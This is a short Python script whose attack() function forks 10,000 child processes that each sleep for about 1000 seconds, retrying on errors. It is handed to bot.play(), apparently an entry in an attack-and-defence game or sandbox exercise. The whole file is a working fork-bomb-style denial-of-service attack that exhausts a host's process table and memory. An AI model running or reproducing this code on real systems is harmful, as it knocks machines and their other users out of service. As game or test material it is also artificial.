"""10,000 forks that stay."""
import os
import time

import bot


def attack():
    for _ in range(10000):
        try:
            if os.fork() == 0:
                time.sleep(1000)
                os._exit(0)
        except OSError:
            continue


bot.play(attack)
